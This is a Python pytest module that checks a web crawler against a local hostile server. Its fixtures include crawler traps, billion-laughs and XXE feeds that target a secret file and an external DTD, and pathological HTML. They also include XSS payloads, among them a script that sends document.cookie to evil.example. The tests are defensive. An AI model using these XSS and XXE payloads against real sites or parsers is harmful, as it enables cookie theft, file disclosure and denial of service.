"""Cases 8–12: hostile content, in one crawl of the real `renewals crawl` process over
a loopback HostileServer — crawler traps, hostile feeds and sitemaps, pathological
HTML, empty/binary/forbidden pages and wrong charsets, script in feeds and pages.
Each test checks one outcome of that crawl; the page-level unit checks are in
tests/test_hostile_units.py.
"""

from __future__ import annotations

import random
import time

import pytest
from sqlalchemy import create_engine, text

from tests.support.crawling import crawl
from tests.support.hostile_server import (
    FILLER_WORDS,
    Connection,
    HostileServer,
    article,
    feed_route,
    last_run,
    not_found,
    respond,
    urlset,
)

pytestmark = pytest.mark.slow

DOCUMENT_TIMEOUT = 5  # RENEWALS_DOCUMENT_TIMEOUT of the crawl (default 20)
QUOTE = "« Quelle réussite ! » s’exclame l’équipe. Œuvre très attendue."
SECRET = "TOP-SECRET-MARKER-42"


def _trap(conn: Connection) -> None:
    """An endless site under /trap/: a calendar with a next month, pagination with a
    next page, the same links with tracking parameters and reordered queries, and
    session ids."""
    path = conn.request.path.split("?", 1)[0]
    if not path.startswith("/trap/"):
        not_found()(conn)
        return
    n = sum(map(ord, conn.request.path)) % 1000
    links = [
        f"/trap/cal/{2025 + n % 50}-{n % 12 + 1:02d}/",
        f"/trap/page/{n + 1}/",
        f"/trap/page/{n + 2}/?utm_source=feed&utm_medium=rss",
        f"/trap/page/{n + 3}/?utm_campaign=x{n}",
        "/trap/list/?a=1&b=2",
        "/trap/list/?b=2&a=1",
        "/trap/list/?a=1&b=2#comments",
        f"/trap/page/{n + 1}/?sessionid={n * 7919}",
    ]
    body = "".join(f'<li><a href="{link}">suite</a></li>' for link in links)
    respond(
        '<html><head><meta property="og:type" content="website"><title>Calendrier</title></head>'
        f"<body><ul>{body}</ul></body></html>"
    )(conn)


def pathological_pages() -> dict[str, str | bytes]:
    draw = random.Random(7)
    paragraphs = "".join(
        "<p>" + " ".join(draw.choice(FILLER_WORDS) for _ in range(150)) + ".</p>\n" for _ in range(6000)
    )
    base = article("Les Gardiens du phare", 3)
    return {
        # case 10: ~7 MB of text, minutes of extraction: cut by the time limit
        "/html/huge.html": base.replace("</article>", paragraphs + "</article>"),
        # 100 000 attributes on one element: quadratic in the parser
        "/html/attributes.html": base.replace(
            "<article>", "<article " + " ".join(f"data-a{i}='{i}'" for i in range(100_000)) + ">"
        ),
        # 100 000 nested elements: past the parser's depth limit, no text
        "/html/deep.html": "<html><body>" + "<div>" * 100_000 + "texte" + "</div>" * 100_000 + "</body></html>",
        # a colspan of 2^53: must not make anything allocate 2^53 cells
        "/html/colspan.html": article("Le Grand Tableau", 2).replace(
            "</article>",
            "<table><tr><td colspan='9007199254740992' rowspan='9007199254740992'>x</td><td>y</td></tr></table>"
            "</article>",
        ),
    }


def charset_pages() -> dict[str, tuple[bytes, str]]:
    """Case 11: (bytes, Content-Type) of the same kind of article under wrong labels."""

    def page(series: str) -> str:
        return article(series, 2, extra=QUOTE)

    return {
        "/charset/cp1252-labelled-utf8.html": (page("Les Rives").encode("cp1252"), "text/html; charset=utf-8"),
        "/charset/utf8-labelled-cp1252.html": (page("Les Forges").encode("utf-8"), "text/html; charset=windows-1252"),
        "/charset/bom-labelled-latin1.html": (
            b"\xef\xbb\xbf" + page("Les Salines").encode("utf-8"),
            "text/html; charset=iso-8859-1",
        ),
        "/charset/utf16-bom.html": (page("Les Landes").encode("utf-16"), "text/html"),
    }


SCRIPT_ARTICLE = article("Les Veilleurs", 4).replace(
    "</article>",
    "<script>document.location='http://evil.example/?c='+document.cookie; alert('xss')</script>"
    "<p onclick=\"alert('click')\">Voir aussi <a href=\"javascript:alert('lien')\">notre dossier</a>"
    " et <img src=x onerror=\"alert('img')\"> les coulisses du tournage.</p>"
    "<iframe src=\"javascript:alert('frame')\"></iframe></article>",
)
SCRIPT_PATHS = {"/script/article.html", "/script-feed.xml"}
SCRIPT_FEED = """<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>f</title>
<item><title><![CDATA[<script>alert('titre')</script>]]></title><link>javascript:alert('feed')</link></item>
<item><title>v</title><link>vbscript:msgbox('x')</link></item>
<item><title>d</title><link>data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;</link></item>
<item><title>j</title><link>  JavaScript:alert('casse')</link></item>
<item><title><![CDATA[<img src=x onerror=alert(1)>]]></title><description><![CDATA[<script>alert('desc')</script>]]></description>
<link>{{BASE}}/script/article.html</link></item>
</channel></rss>"""

BILLION_LAUGHS = """<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>
<rss version="2.0"><channel><item><link>{{BASE}}/laughs/&h;.html</link></item></channel></rss>"""


@pytest.fixture(scope="module")
def content_crawl(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("content")
    secret = tmp / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    with HostileServer() as site, HostileServer() as other:
        site.default = _trap
        site.route("/robots.txt", not_found())
        other.route("/evil.dtd", respond('<!ENTITY leak "EXTERNAL-DTD-LOADED">', content_type="application/xml-dtd"))
        pages: dict[str, object] = {}
        for path, html in pathological_pages().items():
            pages[path] = respond(html)
        for path, (body, content_type) in charset_pages().items():
            pages[path] = respond(body, content_type=content_type)
        pages["/content/empty.html"] = respond(b"")
        pages["/content/report.pdf"] = respond(
            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\n", content_type="application/pdf"
        )
        pages["/content/photo.png"] = respond(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, content_type="image/png")
        pages["/content/pdf-labelled-html.html"] = respond(b"%PDF-1.4\n\x00\x01\x02 binary", content_type="text/html")
        pages["/content/forbidden.html"] = respond("<h1>Forbidden</h1>", status=403)
        pages["/content/good.html"] = respond(article("Marée basse", 2))
        pages["/script/article.html"] = respond(SCRIPT_ARTICLE)
        for path, behaviour in pages.items():
            site.route(path, behaviour)
        listed = [p for p in pages if p != "/script/article.html"]
        site.route("/feed.xml", feed_route(["{{BASE}}" + p for p in listed]))
        site.route("/script-feed.xml", respond(SCRIPT_FEED, content_type="application/rss+xml"))
        # case 9: hostile XML
        hostile_xml = {
            "/xml/laughs.xml": BILLION_LAUGHS,
            "/xml/laughs-utf16.xml": BILLION_LAUGHS.replace('<?xml version="1.0"?>', "").encode("utf-16"),
            "/xml/xxe-file.xml": (
                f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
                '<rss version="2.0"><channel><item><link>{{BASE}}/x/&x;.html</link></item></channel></rss>'
            ),
            "/xml/xxe-http.xml": (
                f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "{other.url("/evil.dtd")}">]>'
                '<rss version="2.0"><channel><item><link>{{BASE}}/x/&x;.html</link></item></channel></rss>'
            ),
            "/xml/parameter-entity.xml": (
                f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "{other.url("/evil.dtd")}"> %p;]>'
                '<rss version="2.0"><channel><item><link>{{BASE}}/x/&leak;.html</link></item></channel></rss>'
            ),
            "/xml/binary.xml": b"\x00\x01\x02\x03\xff\xfe garbage",
            "/xml/html-not-feed.xml": "<html><body><p>Pas un flux</p></body></html>",
        }
        for path, body in hostile_xml.items():
            site.route(path, respond(body, content_type="application/rss+xml"))
        # an RSS 0.91 feed with its external DTD on another host: read, the DTD never fetched
        site.route(
            "/xml/rss091.xml",
            respond(
                '<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
                f'"{other.url("/evil.dtd")}"><rss version="0.91"><channel><title>t</title>'
                "<item><link>{{BASE}}/xml/from-rss091.html</link></item></channel></rss>",
                content_type="application/rss+xml",
            ),
        )
        site.route("/xml/from-rss091.html", respond(article("Le Phare de la Pointe", 6)))
        site.route(
            "/xml/sitemap-laughs.xml",
            respond(
                BILLION_LAUGHS.replace("<rss", "<urlset").replace("rss>", "urlset>"), content_type="application/xml"
            ),
        )
        site.route("/xml/sitemap-ok.xml", respond(urlset("{{BASE}}/content/good.html"), content_type="application/xml"))
        feeds = ["/feed.xml", "/script-feed.xml", *hostile_xml, "/xml/rss091.xml"]
        sources = tmp / "sources.toml"
        sources.write_text(
            f"""
[[source]]
name = "content"
lang = "fr"
feeds = {[site.url(p) for p in feeds]!r}
sitemaps = ["{site.url("/xml/sitemap-laughs.xml")}", "{site.url("/xml/sitemap-ok.xml")}"]

[[source]]
name = "trap"
lang = "fr"
start_urls = ["{site.url("/trap/")}"]
allow = ["/trap/"]
max_depth = 3
""".replace("'", '"'),
            encoding="utf-8",
        )
        db = f"sqlite:///{tmp / 'content.db'}"
        started = time.monotonic()
        result = crawl(
            sources,
            db,
            "-s",
            f"RENEWALS_DOCUMENT_TIMEOUT={DOCUMENT_TIMEOUT}",
            "--log-file",
            str(tmp / "crawl.log"),
            check=False,
        )
        elapsed = time.monotonic() - started
        engine = create_engine(db)
        with engine.connect() as connection:
            articles = {
                row[0]: (row[1], row[2]) for row in connection.execute(text("SELECT url, title, text FROM articles"))
            }
            dropped = dict(connection.execute(text("SELECT url, reason FROM dropped_pages")).all())
        engine.dispose()
        yield {
            "site": site,
            "other": other,
            "result": result,
            "elapsed": elapsed,
            "run": last_run(db),
            "articles": articles,
            "dropped": dropped,
            "log": (tmp / "crawl.log").read_text(encoding="utf-8", errors="replace"),
        }


def errors(content_crawl) -> dict[str, int]:
    return content_crawl["run"]["errors"]


def test_the_crawl_completes(content_crawl):
    assert content_crawl["result"].returncode == 0, content_crawl["result"].stderr[-3000:]
    assert content_crawl["run"]["outcome"] == "completed"
    assert "Traceback" not in content_crawl["log"]
    site = content_crawl["site"]
    assert site.url("/content/good.html") in content_crawl["articles"]


def test_8_crawler_traps_are_bounded_by_depth_and_canonical_urls(content_crawl):
    trap = [p for p in content_crawl["site"].paths() if p.startswith("/trap/")]
    # max_depth = 3 link hops from /trap/, each page offering a handful of new links
    assert 10 < len(trap) < 200, len(trap)
    assert not any("utm_" in p for p in trap), "tracking parameters must be canonicalised away"
    assert trap.count("/trap/list/?a=1&b=2") == 1 and "/trap/list/?b=2&a=1" not in trap
    assert len(trap) == len(set(trap)), "no URL fetched twice"


def test_9_hostile_feeds_and_sitemaps_are_counted_errors_without_expansion_file_or_network(content_crawl):
    site, other = content_crawl["site"], content_crawl["other"]
    # billion laughs (UTF-8 and UTF-16), XXE to a file and to another host, a parameter
    # entity, binary junk, HTML instead of a feed: 7 feeds refused; 1 sitemap
    assert errors(content_crawl)["errors/feed"] == 7
    assert errors(content_crawl)["errors/sitemap"] == 1
    assert other.requests == [], "no external entity or DTD was fetched"
    assert not any(p.startswith(("/laughs/", "/x/")) for p in site.paths())
    assert not any(SECRET in body for _, body in content_crawl["articles"].values())
    # the RSS 0.91 feed with an external DTD is read (without the DTD)
    assert site.url("/xml/from-rss091.html") in content_crawl["articles"]


def test_10_pathological_html_is_dropped_within_the_time_limit(content_crawl):
    site, dropped = content_crawl["site"], content_crawl["dropped"]
    assert dropped[site.url("/html/huge.html")] == "timeout"
    assert dropped[site.url("/html/attributes.html")] == "timeout"
    assert dropped[site.url("/html/deep.html")] in ("no_text", "too_short", "unparsable")
    assert errors(content_crawl)["dropped/timeout"] == 2
    assert site.url("/html/colspan.html") in content_crawl["articles"]
    assert content_crawl["elapsed"] < 150


def test_11_empty_binary_and_forbidden_pages_are_dropped_with_their_reason(content_crawl):
    site, dropped = content_crawl["site"], content_crawl["dropped"]
    assert dropped[site.url("/content/empty.html")] == "empty"
    assert dropped[site.url("/content/pdf-labelled-html.html")] == "binary"
    assert errors(content_crawl)["dropped/not_html"] == 2  # the PDF and the PNG
    assert errors(content_crawl)["errors/fetch/http_403"] == 1
    for path in ("/content/report.pdf", "/content/photo.png", "/content/forbidden.html"):
        assert site.url(path) not in content_crawl["articles"]


@pytest.mark.parametrize("path", sorted(charset_pages()))
def test_11_wrong_charsets_keep_french_accents_and_guillemets(content_crawl, path):
    _title, body = content_crawl["articles"][content_crawl["site"].url(path)]
    assert QUOTE in body
    assert "\ufffd" not in body and "Ã" not in body


def test_12_script_in_feeds_and_pages_is_never_followed_nor_stored(content_crawl):
    site = content_crawl["site"]
    paths = site.paths()
    assert not any("alert" in p or "script" in p.lower() for p in paths if p not in SCRIPT_PATHS)
    assert site.count("/script/article.html") == 1
    title, body = content_crawl["articles"][site.url("/script/article.html")]
    for stored in (title, body):
        assert "<" not in stored and "alert(" not in stored and "javascript:" not in stored.lower()
    assert "notre dossier" in body  # the link's text stays, as text


def test_8_the_page_limit_stops_an_endless_site(tmp_path):
    with HostileServer() as site:
        site.default = _trap
        site.route("/robots.txt", not_found())
        sources = tmp_path / "sources.toml"
        sources.write_text(
            f'[[source]]\nname = "trap"\nstart_urls = ["{site.url("/trap/")}"]\nallow = ["/trap/"]\nmax_depth = 10\n',
            encoding="utf-8",
        )
        db = f"sqlite:///{tmp_path / 'r.db'}"
        result = crawl(sources, db, "--max-pages", "15", check=False)
        requested = [p for p in site.paths() if p.startswith("/trap/")]
    assert result.returncode == 0, result.stderr[-2000:]
    assert len(requested) == 15  # a hard page budget, whatever was queued in the downloader
    assert last_run(db)["outcome"] == "completed"
